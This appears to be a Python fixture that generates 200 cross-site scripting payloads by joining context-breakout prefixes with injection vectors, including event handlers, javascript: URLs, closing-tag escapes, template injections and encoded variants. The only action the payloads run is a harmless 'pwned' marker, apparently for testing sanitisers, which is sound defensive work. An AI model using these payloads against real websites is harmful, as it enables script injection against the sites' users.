"""Two hundred texts that would like to run, made from places in a page and ways out of them."""

from __future__ import annotations

from typing import Final

DEED: Final = "window.pwned=1"
WAYS_OUT: Final = ("", '"', "'", '">', "'>", "</script>")
VECTORS: Final = (
    "<script>{deed}</script>",
    "<img src=x onerror={deed}>",
    "<svg onload={deed}>",
    "<svg><animate onbegin={deed} attributeName=x dur=1s>",
    "<details open ontoggle={deed}>x",
    "<input autofocus onfocus={deed}>",
    "<body onload={deed}>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<iframe src='javascript:parent.pwned=1'></iframe>",
    "<object data='javascript:{deed}'></object>",
    "<a href='javascript:{deed}' autofocus>x</a>",
    "<form action='javascript:{deed}'><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:{deed}'>",
    "<base href='javascript:{deed}//'>",
    "<video><source onerror={deed}></video>",
    "<math><mi xlink:href='data:x,<script>{deed}</script>'>x</mi></math>",
    "</title><script>{deed}</script>",
    "</textarea><script>{deed}</script>",
    "</style><script>{deed}</script>",
    "<style>*{{background:url('javascript:{deed}')}}</style>",
    "<div style='position:fixed;inset:0;background:red'>x</div>",
    "<!--<img src='--><img src=x onerror={deed}//'>",
    "]]><script>{deed}</script>",
    "${{{deed}}}",
    "`${{{deed}}}`",
    "`-({deed})-`",
    "-({deed})-",
    ";{deed}//",
    "\\');{deed}//",
    "{{{{ self.__init__ }}}}{deed}",
    "{{% set x = 1 %}}{deed}",
    "\u2028{deed}\u2029",
    "&lt;script&gt;{deed}&lt;/script&gt;",
    "%3Cscript%3E{deed}%3C/script%3E",
    "\\u003cscript\\u003e{deed}\\u003c/script\\u003e",
    "\u202e<script>{deed}</script>",
)
PAYLOADS: Final = tuple(
    f"{way}{vector.format(deed=DEED)}" for vector in VECTORS for way in WAYS_OUT
)[:200]
